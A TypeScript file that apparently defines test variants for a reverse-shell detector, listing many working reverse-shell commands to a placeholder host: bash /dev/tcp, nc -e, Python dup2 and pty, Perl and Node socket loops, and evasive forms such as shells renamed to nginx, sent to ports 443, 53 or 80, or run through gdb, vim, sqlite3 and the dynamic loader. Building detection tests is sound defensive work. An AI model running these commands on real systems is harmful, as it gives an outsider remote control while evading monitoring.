import {becomes, connects, copied, lines, node, python, pythonFile, throughBash} from '../stage/scripts.ts';
import type {Variant} from '../stage/variant.ts';

const signs = ['owner-shell', 'owner-relay', 'owner-script'];

type Given = Pick<Variant, 'id' | 'does' | 'start'> & Partial<Variant>;

const shell = (kind: number, port: number, given: Given): Variant => ({
  kind,
  signs,
  waits: {tcp: port},
  answers: true,
  ...given,
});

const odd = 7101;

const perl = (port: number): string =>
  `exec perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(${port}, inet_aton("$THERE")));
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i");'`;
const pythonShell = (port: number): string => python(lines(connects('tcp', port), becomes([0, 1, 2], '/bin/sh', 'sh')));

/** 1: the connection is the standard input, output or error of a shell or an interpreter. */
const onStandardDescriptors: readonly Given[] = [
  {id: 'bash-dev-tcp', does: 'bash -i with /dev/tcp', start: throughBash(odd, 'bash -i')},
  {
    id: 'cat-into-bash',
    does: 'cat of the connection into a loop of bash',
    start: `exec bash -c 'exec 5<>/dev/tcp/$THERE/${odd}
cat <&5 | while read -r line; do eval "$line" >&5 2>&5; done'`,
  },
  {id: 'nc-traditional-e', does: 'nc -e /bin/sh', start: `exec nc.traditional -e /bin/sh $THERE ${odd}`},
  {id: 'busybox-nc-e', does: 'busybox nc -e /bin/sh', start: `exec busybox nc $THERE ${odd} -e /bin/sh`},
  {id: 'python-dup2', does: 'Python dup2, exec sh', start: pythonShell(odd)},
  {
    id: 'python-pty-spawn',
    does: 'Python dup2, pty.spawn',
    start: python(
      lines(connects('tcp', odd), 'import pty', 'for n in (0, 1, 2): os.dup2(s.fileno(), n)', 'pty.spawn(["/bin/sh"])'),
    ),
  },
  {id: 'perl-exec', does: 'Perl open, exec sh -i', start: perl(odd)},
  {id: 'bash-named-nginx', does: 'exec -a nginx bash', start: throughBash(odd, '-a nginx bash')},
  {
    id: 'sh-on-standard-error',
    does: 'sh that reads and writes its standard error',
    start: python(
      lines(connects('tcp', odd), becomes([2], '/bin/sh', 'sh', '-c', 'while read -r l <&2; do eval "$l" >&2; done')),
    ),
  },
  {id: 'busybox-sh', does: 'busybox sh', start: throughBash(odd, 'busybox sh')},
  {
    id: 'python-interactive',
    does: 'python3 -i',
    start: throughBash(odd, '/usr/bin/python3 -i'),
    answers: 'print("pw" + str(42))',
  },
  {id: 'bash-over-ipv6', does: 'bash over IPv6', start: throughBash(odd, 'bash', '$THERE6')},
  {id: 'bash-of-www-data', does: 'bash of www-data', start: throughBash(odd, 'bash'), as: 33},
  {
    id: 'dash-of-eve-with-job-control',
    does: 'a shell in a session of its own, of a user',
    start: throughBash(odd, 'setsid sh -i'),
    as: 1500,
  },
];

/** 2: the same behind a port that is usual for a client. */
const onUsualPorts: readonly Variant[] = [
  shell(2, 443, {id: 'bash-443', does: 'bash to 443', start: throughBash(443, 'bash')}),
  shell(2, 443, {id: 'python-443', does: 'Python dup2, sh, to 443, of www-data', start: pythonShell(443), as: 33}),
  shell(2, 53, {id: 'perl-53', does: 'Perl, sh, to 53', start: perl(53)}),
  shell(2, 80, {id: 'nc-traditional-80', does: 'nc -e to 80', start: 'exec nc.traditional -e /bin/sh $THERE 80'}),
];

/** 4: the connection is another descriptor of the interpreter that carries the orders out. */
const onOtherDescriptors: readonly Given[] = [
  {
    id: 'python-loop',
    does: 'Python runs each line, from the command line',
    start: python(
      lines(
        connects('tcp', odd),
        'import subprocess',
        'for line in s.makefile(): s.sendall(subprocess.run(line, shell=True, capture_output=True).stdout)',
      ),
    ),
  },
  {
    id: 'python-loop-of-tmp',
    does: 'Python runs each line, from /tmp',
    start: pythonFile(
      '/tmp/$ID.py',
      lines(
        connects('tcp', odd),
        'import subprocess',
        'for line in s.makefile(): s.sendall(subprocess.run(line, shell=True, capture_output=True).stdout)',
      ),
    ),
  },
  {
    id: 'perl-loop',
    does: 'Perl runs each line',
    start: `exec perl -e 'use IO::Socket::INET; $s = IO::Socket::INET->new("$THERE:${odd}");
while (<$s>) { print $s qx($_); $s->flush }'`,
  },
  {
    id: 'bash-read-u9',
    does: 'bash reads descriptor 9',
    start: `exec bash -c 'exec 9<>/dev/tcp/$THERE/${odd}; while read -r -u 9 l; do eval "$l" >&9 2>&1; done'`,
  },
  {
    id: 'node-loop',
    does: 'Node runs each order',
    start: `exec ${node} -e 'const s = require("net").connect(${odd}, "$THERE");
s.on("data", d => require("child_process").exec(String(d), (e, out) => s.write(out)))'`,
  },
  {
    id: 'dash-descriptor-7',
    does: 'sh reads descriptor 7 it was given',
    start: python(
      lines(connects('tcp', odd), becomes([7], '/bin/sh', 'sh', '-c', 'while read -r l <&7; do eval "$l" >&7; done')),
    ),
  },
];

const updater = '/usr/local/bin/$ID';

/** 5: the connection is the standard input and output of a program that no list of shells names. */
const ofOtherPrograms: readonly Given[] = [
  {id: 'copied-bash', does: 'a copy of bash', start: `${copied('/bin/bash', updater)}\n${throughBash(odd, updater)}`},
  {id: 'copied-dash', does: 'a copy of dash', start: `${copied('/bin/dash', updater)}\n${throughBash(odd, updater)}`},
  {
    id: 'bash-by-loader',
    does: 'the loader runs bash',
    start: throughBash(odd, '/lib64/ld-linux-x86-64.so.2 /bin/bash'),
    needs: ['/lib64/ld-linux-x86-64.so.2'],
  },
  {
    id: 'gdb',
    does: 'gdb',
    start: throughBash(odd, 'gdb -q'),
    answers: 'shell echo pw$((6*7))',
    needs: ['gdb'],
  },
  {id: 'vim-ex', does: 'vim -e', start: throughBash(odd, 'vim -e -s'), answers: '!echo pw$((6*7))', needs: ['vim']},
  {id: 'xargs', does: 'xargs sh -c', start: throughBash(odd, 'xargs -d "\\n" -n1 sh -c')},
  {id: 'busybox-awk', does: 'awk system()', start: throughBash(odd, `busybox awk "{system(\\$0)}"`)},
  {
    id: 'sqlite3',
    does: 'sqlite3 .shell',
    start: throughBash(odd, 'sqlite3'),
    answers: '.shell echo pw$((6*7))',
    needs: ['sqlite3'],
  },
  {id: 'su', does: 'su to a user', start: throughBash(odd, 'su -s /bin/sh eve'), needs: ['su']},
  {
    id: 'script-pty',
    does: 'script gives sh a terminal',
    start: throughBash(odd, 'script -qc sh /dev/null'),
    needs: ['script'],
  },
];

export const reverseShells: readonly Variant[] = [
  ...onStandardDescriptors.map(each => shell(1, odd, each)),
  ...onUsualPorts,
  ...onOtherDescriptors.map(each => shell(4, odd, each)),
  ...ofOtherPrograms.map(each => shell(5, odd, each)),
];
